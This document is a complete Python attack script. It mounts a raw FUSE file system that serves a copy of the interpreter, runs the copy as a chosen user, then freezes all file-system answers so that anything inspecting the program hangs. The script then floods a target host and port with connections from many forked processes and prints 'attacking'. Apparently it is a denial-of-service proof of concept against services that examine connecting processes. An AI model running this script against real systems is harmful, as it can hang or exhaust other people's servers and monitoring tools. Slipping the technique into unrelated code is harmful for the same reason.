"""Runs a program from a file system that stops answering, and has it make connections.

    hanging_files.py FOLDER USER HOST PORT [--rate 50]

Mounts a file system with one file, "program", on FOLDER, so this must run in a mount namespace that
no other program needs. The file is a copy of this interpreter. Once it runs, as USER, and has all
of itself in memory, no request to the file system is answered any more: looking at the program's
file takes forever. The program then makes each connection from a separate process.

The file system speaks the kernel's protocol (fuse(4), linux/fuse.h) and needs no library.
"""

import argparse
import ctypes
import errno
import os
import select
import signal
import socket
import stat
import struct
import sys
import time

AT_ONCE = 100
PATIENCE_SECONDS = 8

# linux/fuse.h
ROOT, FILE = 1, 2
LOOKUP, FORGET, GETATTR, OPEN, READ, RELEASE = 1, 2, 3, 14, 15, 18
INIT, OPENDIR, RELEASEDIR, INTERRUPT, BATCH_FORGET = 26, 27, 29, 36, 42
KEEP_CACHE = 2
IN_HEADER = struct.Struct("<IIQQIIIHH")
OUT_HEADER = struct.Struct("<IiQ")
ATTRIBUTES = struct.Struct("<6Q10I")
MAX_READ = 1 << 17

MS_NOSUID, MS_NODEV = 2, 4  # sys/mount.h

libc = ctypes.CDLL(None, use_errno=True)


class FileSystem:
    """A folder with one file. Nothing may be cached, so that every look-up asks us."""

    def __init__(self, folder, path):
        with open(path, "rb") as file:
            self._content = file.read()
        self._device = os.open("/dev/fuse", os.O_RDWR | os.O_CLOEXEC)
        options = f"fd={self._device},rootmode=40755,user_id=0,group_id=0,allow_other"
        flags = MS_NOSUID | MS_NODEV
        if libc.mount(b"hanging", folder.encode(), b"fuse", flags, options.encode()) != 0:
            number = ctypes.get_errno()
            raise OSError(number, f"the file system cannot be mounted: {os.strerror(number)}")

    def serve_until(self, descriptor):
        """Answers requests until there is something to read from descriptor."""
        both = [self._device, descriptor]
        while descriptor not in select.select(both, [], [])[0]:
            request = os.read(self._device, MAX_READ + 4096)
            _, operation, unique, node, *_ = IN_HEADER.unpack_from(request)
            if operation in (FORGET, BATCH_FORGET, INTERRUPT):
                continue
            answer = self._answer(operation, node, request[IN_HEADER.size :])
            error, body = (answer, b"") if isinstance(answer, int) else (0, answer)
            size = OUT_HEADER.size + len(body)
            os.write(self._device, OUT_HEADER.pack(size, -error, unique) + body)

    def _answer(self, operation, node, body):
        """Returns the body of an answer, or an error number."""
        if operation == INIT:
            major, minor = struct.unpack_from("<II", body)
            assert major == 7
            version = (7, min(minor, 31))
            return struct.pack("<4I2H2I32x", *version, MAX_READ, 0, 16, 12, MAX_READ, 1)
        if operation == LOOKUP:
            if node != ROOT or body.rstrip(b"\0") != b"program":
                return errno.ENOENT
            return struct.pack("<4Q2I", FILE, 0, 0, 0, 0, 0) + self._attributes(FILE)
        if operation == GETATTR:
            return struct.pack("<QII", 0, 0, 0) + self._attributes(node)
        if operation in (OPEN, OPENDIR):
            return struct.pack("<QII", 0, KEEP_CACHE, 0)
        if operation == READ:
            _, offset, size = struct.unpack_from("<QQI", body)
            return self._content[offset : offset + size]
        if operation in (RELEASE, RELEASEDIR):
            return b""
        return errno.ENOSYS

    def _attributes(self, node):
        is_file = node == FILE
        size = len(self._content) if is_file else 0
        mode = stat.S_IFREG | 0o555 if is_file else stat.S_IFDIR | 0o755
        times = (0,) * 6
        return ATTRIBUTES.pack(node, size, size // 512, *times, mode, 1, 0, 0, 0, 4096, 0)


def serve(arguments):
    files = FileSystem(arguments.folder, os.path.realpath(sys.executable))
    ready, say_ready = os.pipe()
    begin, say_begin = os.pipe()
    for descriptor in (say_ready, begin):
        os.set_inheritable(descriptor, True)
    user = str(arguments.user)
    child = os.fork()
    if child == 0:
        os.execvp("setpriv", [
            "setpriv", "--reuid", user, "--regid", user, "--clear-groups", "--pdeathsig", "KILL",
            os.path.join(arguments.folder, "program"), "-I", "-S", *sys.argv,
            "--descriptors", f"{say_ready},{begin}",
        ])  # fmt: skip
    os.close(say_ready)
    files.serve_until(ready)
    if not os.read(ready, 1):
        sys.exit("the program did not start")
    # From now on no request is answered.
    os.write(say_begin, b"b")
    print("attacking", flush=True)
    signal.pause()


def load_everything():
    """After this, running the program needs no file any more."""
    with open("/proc/self/exe", "rb") as file:
        while file.read(1 << 20):
            pass


def connect_once(host, port):
    with socket.socket() as connection:
        connection.settimeout(PATIENCE_SECONDS)
        try:
            connection.connect((host, port))
            connection.recv(100)
        except OSError:
            pass


def attack(arguments):
    say_ready, begin = map(int, arguments.descriptors.split(","))
    load_everything()
    os.write(say_ready, b"r")
    os.read(begin, 1)
    children = 0
    while True:
        if children == AT_ONCE:
            os.wait()
            children -= 1
        while children and os.waitpid(-1, os.WNOHANG)[0]:
            children -= 1
        if os.fork() == 0:
            connect_once(arguments.host, arguments.port)
            os._exit(0)
        children += 1
        time.sleep(1 / arguments.rate)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("folder")
    parser.add_argument("user", type=int)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--rate", type=float, default=50)
    parser.add_argument("--descriptors", help="of the program itself")
    arguments = parser.parse_args()
    (attack if arguments.descriptors else serve)(arguments)


if __name__ == "__main__":
    main()
